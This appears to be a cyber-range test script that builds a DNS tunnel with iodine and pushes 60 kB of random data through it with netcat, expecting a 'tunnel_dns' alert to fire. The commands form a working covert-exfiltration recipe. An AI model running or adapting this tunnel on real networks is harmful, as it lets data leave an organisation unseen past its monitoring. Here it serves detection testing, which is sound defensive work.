# SPDX-License-Identifier: Apache-2.0
# what: 60 kB through DNS with iodine, through the domain's resolver
# technique: T1572
# from: ws1
# to: dc1
# account: -
# outcome: success
# must: alert tunnel_dns
. "$RANGE_HERE/item.sh"
at inet iodined -f -c -P secret -p 5301 -l 203.0.113.10 10.99.0.1/27 t.tunnel.test >"$RANGE/iodined.log" 2>&1 &
sleep 1
iodine -f -r -P secret -T TXT t.tunnel.test >"$HOME/iodine.log" 2>&1 &
i=0
until ip addr show dns0 2>/dev/null | grep -q inet || [ $i = 60 ]; do i=$((i + 1)); sleep 0.25; done
at inet sh -c 'nc -l -p 9009 | wc -c' >"$HOME/got" 2>&1 &
sleep 0.5
head -c 60000 /dev/urandom | timeout 40 nc -q 1 10.99.0.1 9009
sleep 1
cat "$HOME/got" "$HOME/iodine.log"
[ "$(cat "$HOME/got")" = 60000 ]
